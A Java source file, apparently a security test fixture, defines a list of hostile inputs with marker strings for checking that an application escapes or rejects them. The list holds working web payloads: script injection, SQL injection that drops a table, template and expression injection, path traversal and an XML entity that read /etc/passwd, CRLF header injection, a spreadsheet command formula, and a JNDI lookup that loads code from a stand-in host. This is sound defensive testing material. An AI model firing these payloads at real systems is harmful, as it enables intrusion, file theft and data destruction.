package cn.cegn.ra.outside;

import java.util.List;

/** An input that means no good. */
record Hostile(String kind, String value) {
    /** What the product in the expressions below is, if somebody works it out. */
    static final String EVALUATED = "zq1337q";

    /** As they begin, unescaped, in an answer that lets them through. */
    static final List<String> RAW = List.of("<zq9x", "<!--zq9", "]]><zq9");

    /** The name of a header that an input tries to add. */
    static final String HEADER = "X-Zq9";

    static final List<Hostile> ALL = List.of(
            new Hostile("script", "zq9<zq9x onload=alert(1)><script>alert('zq9')</script>"),
            new Hostile("attribute", "zq9\"onx=\"alert(1)"),
            new Hostile("script in a comment", "--><!--zq9 <zq9x>"),
            new Hostile("end of CDATA", "]]><zq9x/>"),
            new Hostile("quotes", "zq9'\"`\\"),
            new Hostile("SQL", "1' or '1'='1'; drop table account; --"),
            new Hostile("SQL number", "1 or 1=1"),
            new Hostile("EL, deferred", "zq#{7*191}q"),
            new Hostile("EL, at once", "zq${7*191}q"),
            new Hostile("template", "zq{{7*191}}q"),
            new Hostile("path traversal", "../../../../../../etc/passwd"),
            new Hostile("path traversal, encoded", "..%2f..%2fWEB-INF%2fweb.xml"),
            new Hostile("path traversal, Windows", "..\\..\\WEB-INF\\web.xml"),
            new Hostile("NUL", "zq9\u0000.pdf"),
            new Hostile("control characters", "zq9\u0001\u0008\u001b\u007f\uFFFE"),
            new Hostile("over-long", "zq9".repeat(2_000)),
            new Hostile("CRLF", "zq9\r\nX-Zq9: yes\r\n\r\n<zq9x>"),
            new Hostile("unicode", "zq9\u202e\ufeff\ud842\udfb7\u0130\ufb03\u2028<\u200bzq9x>"),
            new Hostile("lone surrogate", "zq9\ud800"),
            new Hostile("largest number", "9223372036854775807"),
            new Hostile("number out of range", "99999999999999999999999999999999"),
            new Hostile("negative number", "-1"),
            new Hostile("no number", "NaN"),
            new Hostile("other digits", "\u0661\u0662\u0663"),
            new Hostile("date out of range", "+999999999-12-31"),
            new Hostile("foreign address", "https://zq9.example/"),
            new Hostile("foreign address, no scheme", "//zq9.example/%0d%0aX-Zq9:%20yes"),
            new Hostile("script address", "javascript:alert('zq9')"),
            new Hostile("XML entity", "<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"),
            new Hostile("format", "%s%n%x{0}{1,number,#.}"),
            new Hostile("formula", "=cmd|'/c zq9'!A1"),
            new Hostile("lookup", "${jndi:ldap://zq9.example/a}"),
            new Hostile("pattern", "((a+)+)+$ % _ *"),
            new Hostile("empty", ""));
}
